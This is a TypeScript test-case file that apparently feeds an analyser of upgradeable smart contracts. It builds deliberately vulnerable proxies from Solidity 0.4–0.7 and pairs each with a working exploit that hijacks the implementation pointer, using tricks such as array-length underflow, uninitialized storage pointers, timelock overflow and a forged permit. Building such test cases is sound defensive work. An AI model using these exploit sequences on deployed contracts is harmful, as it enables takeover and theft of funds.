/**
 * Contracts of compilers from 0.4 to 0.7, whose tricks newer compilers refuse.
 *
 * Their code is stored in `old-contracts/artifacts.json`, because the npm package of the current compiler cannot make it.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { encodeAbiParameters, type Hex, keccak256, pad, stringToHex, toHex } from 'viem'
import type { Artifact } from '../../evm/compile.ts'
import { type Case, WEAK, WITHOUT_DELAY } from '../case.ts'
import { type Built, type Chain, callData, LOGIC_SLOT, system } from '../chain.ts'
import { deploySafe, execSigned, upgradeCall } from '../safes.ts'
import { controlledBy, part } from './lying-getters.ts'

type Draft = Omit<Case, 'truth' | 'by' | 'settings'> & Partial<Pick<Case, 'by' | 'truth'>>

const ARTIFACTS = join(import.meta.dirname, '..', 'old-contracts', 'artifacts.json')

function old(chain: Chain, name: string, ...args: readonly unknown[]): Promise<Hex> {
  const artifact = (JSON.parse(readFileSync(ARTIFACTS, 'utf8')) as Readonly<Record<string, Artifact>>)[name]
  if (artifact === undefined) throw new Error(`no old contract ${name}`)
  return chain.deployArtifact(artifact, ...args)
}
/** Old logic behind an ERC-1967 proxy. */
const behindProxy =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await old(chain, name)))

const WORD = 1n << 256n
/** The index at which an array in a slot of storage covers the implementation slot. */
const indexOfPointer = (slot: bigint): bigint => {
  const start = BigInt(keccak256(encodeAbiParameters([{ type: 'uint256' }], [slot])))
  return (BigInt(LOGIC_SLOT) - start + WORD) % WORD
}

const drafts: readonly Draft[] = [
  {
    name: 'the constructor has a wrong name, so that the owner looks renounced (0.4)',
    cause: 'second writer',
    build: async (chain) => {
      const address = await old(chain, 'MisnamedConstructorProxy')
      await chain.send(address, 'prepare(address)', [await chain.deploy('Plain')])
      return system(address)
    },
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'MisnamedConstructorProxi(address)', ['0x0000000000000000000000000000000000000000'])
      await send(address, 'upgradeTo(address)', [code])
    },
  },
  {
    name: 'a local struct without a location writes the first variable, which is the pointer (0.4)',
    cause: 'second writer',
    build: async (chain) => system(await old(chain, 'FirstVariableProxy', await old(chain, 'UninitializedPointer'))),
    exploit: ({ send, code }, { address }) => send(address, 'bet(uint256)', [code]),
  },
  {
    name: 'the length of an array is decremented below zero (0.4)',
    cause: 'second writer',
    build: behindProxy('ShrinkingArray'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'removeLast()')
      await send(address, 'replace(uint256,uint256)', [indexOfPointer(0n), code])
    },
  },
  {
    name: 'the length of an array is decremented below zero (0.5, not optimized)',
    cause: 'second writer',
    build: behindProxy('ShrinkingArray5'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'retract()')
      await send(address, 'revise(uint256,bytes32)', [indexOfPointer(1n), pad(code, { size: 32 })])
    },
  },
  {
    name: 'the library of a wallet initializes it again (0.4)',
    cause: 'second writer',
    build: async (chain) =>
      system(await old(chain, 'LibraryWallet', await chain.timelock(), await old(chain, 'WalletLibrary'))),
    exploit: async ({ send, code, account }, { address }) => {
      await send(address, 'initWallet(address)', [account.address])
      await send(address, 'changeLibrary(address)', [code])
    },
  },
  {
    name: 'the logic runs any code with CALLCODE (0.4)',
    cause: 'second writer',
    build: behindProxy('OpenCallcode'),
    exploit: ({ send, code }, { address }) =>
      send(address, 'run(address,bytes)', [code, callData('seize(address)', [code])]),
  },
  {
    name: 'an underflow gives anyone the balance that an upgrade needs (0.4)',
    cause: 'other guard',
    build: behindProxy('UnderflowVotes'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'transfer(address,uint256)', ['0x000000000000000000000000000000000000dEaD', 1n])
      await send(address, 'upgrade(address)', [code])
    },
  },
  {
    name: 'the pointer is an entry of eternal storage that anyone may set (0.5)',
    cause: 'second writer',
    build: async (chain) => system(await old(chain, 'EternalProxy', await old(chain, 'EternalLogic'))),
    exploit: ({ send, code }, { address }) =>
      send(address, 'setAddress(bytes32,address)', [keccak256(stringToHex('implementation')), code]),
  },
  {
    name: 'an invalid permit recovers the renounced owner (0.6)',
    cause: 'other guard',
    build: behindProxy('PermitUpgrade'),
    exploit: ({ send, code }, { address }) => {
      const one = toHex(1, { size: 32 })
      return send(address, 'upgradeWithPermit(address,uint8,bytes32,bytes32)', [code, 0, one, one])
    },
  },
  {
    name: 'a price that overflows makes the shares for an upgrade free (0.6)',
    cause: 'other guard',
    build: behindProxy('OverflowShares'),
    exploit: async ({ send, code }, { address }) => {
      // One ether is a multiple of 2 to the power of 18, so that this number of shares costs nothing.
      await send(address, 'buy(uint256)', [1n << 238n])
      await send(address, 'upgrade(address)', [code])
    },
  },
  {
    name: 'the delay of a timelock overflows (0.7)',
    cause: 'lying getter',
    by: 'the signers',
    truth: WITHOUT_DELAY,
    build: async (chain) => {
      const owners = [0, 1, 2].map((n) => chain.hidden(n).address)
      const safe = await deploySafe(chain, { owners, threshold: 2 })
      return controlledBy(chain, await old(chain, 'OverflowTimelock', safe), { safe })
    },
    exploit: async (attack, built) => {
      const [safe, controller] = [part(built, 'safe'), part(built, 'controller')]
      const two = [attack.hidden(0), attack.hidden(1)]
      const args = [part(built, 'admin'), upgradeCall(built.address, attack.code)]
      const queued = callData('queueAfter(address,bytes,uint256)', [...args, WORD - 1_000n])
      await execSigned(attack, safe, controller, queued, two)
      await execSigned(attack, safe, controller, callData('executeTransaction(address,bytes)', args), two)
    },
  },
  {
    name: 'the time that a sender must wait overflows (0.7)',
    cause: 'trial detector',
    build: behindProxy('OverflowVesting'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'lock(uint256)', [WORD - 1_000n])
      await send(address, 'upgrade(address)', [code])
    },
  },
]

export const oldCompilers: readonly Case[] = drafts.map((draft) => ({
  by: 'anyone',
  truth: WEAK,
  ...draft,
  settings: ['optimized'],
}))
